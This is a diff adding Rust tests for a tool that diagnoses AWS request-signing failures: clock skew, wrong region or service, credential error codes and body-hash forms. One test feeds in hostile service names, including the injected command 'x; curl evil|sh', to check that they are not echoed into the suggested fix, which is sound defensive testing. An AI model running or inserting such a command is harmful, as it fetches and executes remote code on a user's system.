@@ -1,0 +1,158 @@
+//! The values in AWS's texts: times, regions, services, codes and hashes.
+
+use super::*;
+
+#[test]
+fn a_clock_is_found_in_every_service_and_the_fix_is_for_every_system() {
+    let s3 = "<Error><Code>RequestTimeTooSkewed</Code><Message>The difference between the request time and the \
+              current time is too large.</Message><RequestTime>20260115T120000Z</RequestTime>\
+              <ServerTime>2026-01-15T12:20:00Z</ServerTime></Error>";
+    let ahead = s3.replace("T120000Z", "T124000Z");
+    let slow = "Signature expired: 20260115T120000Z is now earlier than 20260115T121500Z (20260115T122000Z - 5 min.)";
+    for (text, expected, detail) in [
+        (s3, "clock-slow", "20 min behind"),
+        (&ahead, "clock-fast", "20 min ahead"),
+        (slow, "clock-slow", "20 min behind"),
+    ] {
+        check(text, expected);
+        let found = diagnose(&evidence(text));
+        assert!(found.summary.contains(detail), "{}", found.summary);
+        let fix = found.fix.unwrap();
+        for line in synchronize_clock().lines() {
+            let command = line.split_once(": ").map_or("", |(_, command)| command);
+            let is_host = line.starts_with("Container");
+            assert!(is_host || fix.contains(command), "{line}: {fix}");
+        }
+        for command in ["timedatectl", "sntp -sS", "w32tm /resync", "hwclock -s"] {
+            assert!(fix.contains(command), "{fix}");
+        }
+    }
+    // The times are not known.
+    let found = diagnose(&evidence(
+        "An error occurred (RequestTimeTooSkewed): too large",
+    ));
+    assert_eq!(found.cause, None);
+    let found = diagnose(&evidence(
+        "The difference between the request time and the current time is too large.",
+    ));
+    assert!(found.cause.is_none() && found.fix.unwrap().contains("sntp -sS"));
+    for other in [
+        "Signature expired: your link was valid until today",
+        "JWT: Signature expired: log in again",
+    ] {
+        check(other, "unknown");
+    }
+}
+
+#[test]
+fn the_region_that_s3_expects_is_named() {
+    let text = "The authorization header is malformed; the region 'us-east-1' is wrong; expecting 'eu-west-1'";
+    let found = diagnose(&evidence(text));
+    assert_eq!(found.cause, Some(Cause::WrongRegion));
+    assert!(found.hint.unwrap().contains("--region eu-west-1"));
+}
+
+#[test]
+fn codes_about_credentials_have_the_same_cause_for_sts_and_in_an_answer() {
+    let mismatch = "The request signature we calculated does not match the signature you provided.";
+    let expired = "Signature expired: 20260101T000000Z is now earlier than 20260101T001000Z";
+    for (code, message, expected) in [
+        ("ExpiredToken", "", Some(Cause::TokenExpired)),
+        ("ExpiredTokenException", "", Some(Cause::TokenExpired)),
+        ("InvalidClientTokenId", "", Some(Cause::UnknownKey)),
+        ("InvalidAccessKeyId", "", Some(Cause::UnknownKey)),
+        ("UnrecognizedClientException", "", Some(Cause::UnknownKey)),
+        ("AuthFailure", "", Some(Cause::UnknownKey)),
+        ("SignatureDoesNotMatch", mismatch, Some(Cause::WrongSecret)),
+        ("SignatureDoesNotMatch", expired, Some(Cause::ClockSlow)),
+        (
+            "InvalidSignatureException",
+            mismatch,
+            Some(Cause::WrongSecret),
+        ),
+        ("RegionDisabledException", "", None),
+        ("Throttling", "", None),
+    ] {
+        assert_eq!(credentials_cause(code, message), expected, "{code}");
+        let answer = format!(r#"{{"__type":"{code}","message":"{message}"}}"#);
+        let key = "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260115/r/s/aws4_request, SignedHeaders=host, \
+                   Signature=ab";
+        let evidence = Evidence {
+            credentials: Some(Credentials {
+                access_key_id: "AKIDEXAMPLE".to_owned(),
+                ..Credentials::default()
+            }),
+            ..with_headers(&answer, &[("authorization", key)])
+        };
+        let found = diagnose(&evidence).cause;
+        // Without the canonical request, a mismatch can have other causes.
+        if expected != Some(Cause::WrongSecret) {
+            assert_eq!(found, expected, "{code}");
+        }
+    }
+}
+
+#[test]
+fn only_the_documented_values_declare_an_unsigned_body() {
+    let echoed = "POST\n/graphql\n\nhost:a\n\nhost\n44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a";
+    for (hash, expected) in [
+        ("UNSIGNED-PAYLOAD", "body-hash-unsigned"),
+        ("STREAMING-UNSIGNED-PAYLOAD-TRAILER", "body-hash-unsigned"),
+        ("STREAMING-AWS4-HMAC-SHA256-PAYLOAD", "body-hash-unsigned"),
+        ("UNDEFINED", "canonical-form"),
+        ("[Object Uint8Array]", "canonical-form"),
+        (
+            "RBNvo1WzZ4oRRq0W9+hknpT7T8If536DEMBg9hyq/4o=",
+            "canonical-form",
+        ),
+        (
+            "44136FA355B3678A1146AD16F7E8649E94FB4FC21FE77E8310C060F61CAAFF8A",
+            "hash-case",
+        ),
+    ] {
+        let yours = format!("POST\n/graphql\n\nhost:a\n\nhost\n{hash}");
+        let answer = format!(
+            "The request signature we calculated does not match the signature you provided.\n\n\
+             The Canonical String for this request should have been\n'{echoed}'\n\n\
+             The String-to-Sign should have been\n'AWS4-HMAC-SHA256\nx\ny\nz'"
+        );
+        let found = diagnose(&Evidence {
+            canonical_request: Some(yours),
+            ..evidence(&answer)
+        });
+        assert_eq!(found.cause_name(), expected, "{hash}: {found:?}");
+    }
+}
+
+#[test]
+fn the_fix_names_the_service_and_the_region_that_aws_expects() {
+    let text = |name: &str| format!("Credential should be scoped to correct service: '{name}'.");
+    let found = diagnose(&evidence(&text("execute-api")));
+    let fix = found.fix.unwrap();
+    assert!(
+        fix.contains("SigV4Auth(credentials, \"execute-api\", region)"),
+        "{fix}"
+    );
+    assert!(!fix.contains("SERVICE"), "{fix}");
+    let hint = found.hint.unwrap();
+    assert!(
+        hint.contains("countersign --service execute-api URL"),
+        "{hint}"
+    );
+    for hostile in ["", "\u{1b}[31m", "x; curl evil|sh", "X", &"a".repeat(41)] {
+        let found = diagnose(&evidence(&text(hostile)));
+        assert_eq!(
+            found.fix,
+            Some(Cause::WrongService.fix_with_code()),
+            "{hostile:?}"
+        );
+    }
+    let text = "Credential should be scoped to a valid Region, not 'us-east-1'. ";
+    let host = "a1.execute-api.eu-west-1.amazonaws.com";
+    let found = diagnose(&with_headers(text, &[("host", host)]));
+    let hint = found.hint.unwrap();
+    assert!(
+        hint.contains("countersign --region eu-west-1 URL"),
+        "{hint}"
+    );
+}
